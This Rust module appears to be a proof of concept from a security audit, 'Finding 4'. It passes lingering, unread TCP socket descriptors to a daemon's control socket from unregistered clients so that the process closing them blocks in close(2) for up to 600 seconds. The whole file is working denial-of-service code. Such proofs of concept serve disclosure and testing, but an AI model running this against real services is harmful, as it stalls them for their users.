//! Finding 4: TCP connections that linger, in messages whose descriptors nobody wants. Whoever closes the last copy of
//! one waits in close(2) for a peer that does not read.

use crate::client::Control;
use sd_proto::{MESSAGE_MAX, Request};
use std::io::{self, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsRawFd;

const LINGER_SECONDS: i32 = 600;

/// Who closes first does not wait, so the attacker has to be faster than the monitor: it mostly is, and tries a few times.
const ATTEMPTS: usize = 5;

/// `zero`: in a message without bytes. `garbage`: beside what is no message. `long`: beside a message that is too long.
/// A number: so many beside a Status. They come from clients that have not registered.
pub(crate) fn run(way: &str) -> io::Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    for _ in 0..ATTEMPTS {
        attempt(way, &listener)?;
    }
    std::thread::sleep(std::time::Duration::from_millis(100));
    crate::stand()
}

fn attempt(way: &str, listener: &TcpListener) -> io::Result<()> {
    let count = way.parse().unwrap_or(1);
    let (mut lingering, mut peers) = (Vec::new(), Vec::new());
    for _ in 0..count {
        let (stream, peer) = self::lingering(listener)?;
        lingering.push(stream);
        peers.push(peer);
    }
    let fds: Vec<i32> = lingering.iter().map(AsRawFd::as_raw_fd).collect();
    let control = Control::connect()?;
    let mut status = [0; MESSAGE_MAX];
    let status = Request::Status.encode(&mut status).to_vec();
    let bytes = match way {
        "zero" => Vec::new(),
        "garbage" => vec![255; 40],
        "long" => vec![8; MESSAGE_MAX + 40],
        _ => status,
    };
    std::thread::spawn(move || {
        let sent = control.send(&bytes, &fds);
        drop(lingering);
        std::mem::forget((control, peers));
        sent
    });
    Ok(())
}

/// A connection whose other end does not read, with bytes that nobody has taken, and that end.
fn lingering(listener: &TcpListener) -> io::Result<(TcpStream, TcpStream)> {
    let mut stream = TcpStream::connect(listener.local_addr()?)?;
    let (peer, _) = listener.accept()?;
    let len: i32 = 4096;
    // SAFETY: the kernel reads one number.
    unsafe {
        let value = (&raw const len).cast();
        libc::setsockopt(stream.as_raw_fd(), libc::SOL_SOCKET, libc::SO_SNDBUF, value, 4);
        libc::setsockopt(peer.as_raw_fd(), libc::SOL_SOCKET, libc::SO_RCVBUF, value, 4);
    }
    stream.set_nonblocking(true)?;
    while stream.write(&[7; 1 << 16]).is_ok() {}
    stream.set_nonblocking(false)?;
    let linger = libc::linger { l_onoff: 1, l_linger: LINGER_SECONDS };
    let len = size_of_val(&linger) as u32;
    // SAFETY: the kernel reads one linger.
    let set = unsafe {
        let value = (&raw const linger).cast();
        libc::setsockopt(stream.as_raw_fd(), libc::SOL_SOCKET, libc::SO_LINGER, value, len)
    };
    if set == 0 { Ok((stream, peer)) } else { Err(io::Error::last_os_error()) }
}
